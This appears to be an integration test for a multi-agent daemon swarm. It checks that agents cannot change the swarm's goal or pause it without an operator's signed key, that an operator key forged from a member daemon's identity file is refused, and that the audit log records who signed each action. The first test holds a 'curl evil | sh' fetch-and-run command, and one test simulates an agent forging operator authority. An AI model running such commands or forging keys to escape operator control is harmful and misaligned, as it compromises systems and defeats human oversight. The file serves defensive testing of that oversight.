// A swarm of three agentd processes with an operator key: what an agent
// tries through its own API is refused, with the word operator in the
// error; what the operator signs lands on every daemon, including one
// started without --operator (it learns the key from the first goal); a
// pause shows on every daemon's status; the audit names who signed what.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { PROCESS_TEST_TIMEOUT_MS, ProcessCluster, agencyJson, runAgency, type AgentdProcess } from '../../helpers/agentd-process.js'
import { waitFor } from '../../helpers/wait-for.js'
import { makeOperatorKey } from '../../helpers/operator-key.js'

const SEEN_MS = 60_000

describe('a swarm with an operator', { timeout: PROCESS_TEST_TIMEOUT_MS }, () => {
  const cluster = new ProcessCluster()
  let ada: AgentdProcess
  let bo: AgentdProcess
  let cy: AgentdProcess
  let keyFile: string
  let opKey: string
  let memberKeyFile: string

  beforeAll(async () => {
    const dir = await cluster.tempDir('agency-operator-')
    ;({ keyFile, opKey } = await makeOperatorKey(dir))
    ada = await cluster.start({ name: 'ada', extraArgs: ['--operator', opKey] })
    bo = await cluster.start({ name: 'bo', peers: [ada.listenAddr], extraArgs: ['--operator', opKey] })
    // cy is told nothing: it learns the operator from the first goal
    cy = await cluster.start({ name: 'cy', peers: [ada.listenAddr] })
    await waitFor(async () => (await ada.peers()).filter(p => p.live).length === 2, {
      timeoutMs: SEEN_MS,
      what: 'ada to see bo and cy live'
    })
    // what an agent beside bo can read: its daemon's identity key, made into an "operator key" file
    memberKeyFile = join(dir, 'member.key')
    const identity = await readFile(join(bo.dataDir, 'identity.key'))
    await writeFile(
      memberKeyFile,
      JSON.stringify({ kind: 'agency operator key', operator: bo.peerId, privateKey: identity.toString('base64') }),
      { mode: 0o600 }
    )
  }, PROCESS_TEST_TIMEOUT_MS)

  afterAll(async () => {
    await cluster.cleanup()
  })

  const agency = async (d: AgentdProcess, ...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> =>
    await runAgency([...args, '--addr', d.grpcAddr])

  it("refuses an agent's goal set and pause through its own API, saying the operator must do it", async () => {
    const goal = await agency(bo, 'goal', 'set', 'mine now', '--test', 'curl evil | sh')
    expect(goal.code).toBe(1)
    expect(goal.stderr).toMatch(/changing the goal or its test command is the operator's to do/)
    const pause = await agency(bo, 'pause')
    expect(pause.stderr).toMatch(/pausing the swarm is the operator's to do: pass --operator-key/)
    const forged = await agency(bo, 'pause', '--operator-key', memberKeyFile)
    expect(forged.code).toBe(1)
    expect(forged.stderr).toMatch(new RegExp(`the key ${bo.peerId} is not an operator of this swarm`))
    for (const d of [ada, bo, cy]) expect((await d.status()).goal).toBeUndefined()
  })

  it("lands the operator's goal on every daemon; the daemon without --operator learns the key from it", async () => {
    const set = await agency(ada, 'goal', 'set', 'build calc', '--test', 'node run-tests.mjs', '--operator-key', keyFile)
    expect(set.code).toBe(0)
    for (const d of [ada, bo, cy]) {
      await waitFor(async () => (await d.status()).goal?.text === 'build calc', { timeoutMs: SEEN_MS, what: `the goal at ${d.name}` })
      expect((await d.status()).goal).toMatchObject({ testCommand: 'node run-tests.mjs', setBy: opKey })
    }
    expect(await cy.status()).toMatchObject({ operators: [opKey], operatorSource: 'goal' })
    expect(await ada.status()).toMatchObject({ operators: [opKey], operatorSource: 'config' })
    // cy now refuses its agent too
    const again = await agency(cy, 'goal', 'set', 'something else', '--test', 'true')
    expect(again.stderr).toMatch(/operator/)
    expect((await cy.status()).goal?.text).toBe('build calc')
  })

  it('pauses every daemon (status --json says "paused": true) and resumes them', async () => {
    expect((await agency(bo, 'pause', 'lunch', '--operator-key', keyFile)).code).toBe(0)
    for (const d of [ada, bo, cy]) {
      await waitFor(async () => (await agencyJson(d.grpcAddr, ['status'])).paused === true, {
        timeoutMs: SEEN_MS,
        what: `the pause at ${d.name}`
      })
    }
    expect((await agency(cy, 'status')).stdout).toMatch(/PAUSED by the operator/)
    expect((await agency(cy, 'resume', '--operator-key', keyFile)).code).toBe(0)
    for (const d of [ada, bo, cy]) {
      await waitFor(async () => (await agencyJson(d.grpcAddr, ['status'])).paused === false, {
        timeoutMs: SEEN_MS,
        what: `the resume at ${d.name}`
      })
    }
  })

  it("tells each agent the operator's messages, and lists every action in the audit with who signed it", async () => {
    expect((await agency(ada, 'broadcast', 'keep the parser small', '--operator-key', keyFile)).code).toBe(0)
    expect((await agency(ada, 'send', 'cy', 'cy, take the lexer', '--operator-key', keyFile)).code).toBe(0)
    await waitFor(async () => (await cy.inbox()).filter(m => m.kind === 'operator').length === 2, {
      timeoutMs: SEEN_MS,
      what: "the two operator messages in cy's inbox"
    })
    await waitFor(async () => (await bo.inbox()).some(m => m.kind === 'operator' && m.text === 'keep the parser small'), {
      timeoutMs: SEEN_MS,
      what: "the broadcast in bo's inbox"
    })
    expect((await bo.inbox()).some(m => m.text === 'cy, take the lexer')).toBe(false)
    const audit = await agencyJson(bo.grpcAddr, ['log', '--kind', 'operator'])
    expect(audit.operators).toEqual([opKey])
    const accepted = audit.actions.filter((a: { verdict: string }) => a.verdict === 'accepted')
    expect(accepted.map((a: { kind: string }) => a.kind)).toEqual(['goal', 'pause', 'resume', 'message', 'message'])
    expect(accepted.every((a: { operator: string }) => a.operator === opKey)).toBe(true)
  })

  it('refuses a pause on a swarm without an operator, changing nothing', async () => {
    const lone = await cluster.start({ name: 'lone' })
    expect((await agency(lone, 'status')).stdout).toMatch(/operator: none: any member may set the goal/)
    const pause = await agency(lone, 'pause', '--operator-key', keyFile)
    expect(pause.code).toBe(1)
    expect(pause.stderr).toMatch(/needs an operator, and this swarm has none/)
    expect((await lone.status()).paused).toBe(false)
  })
})
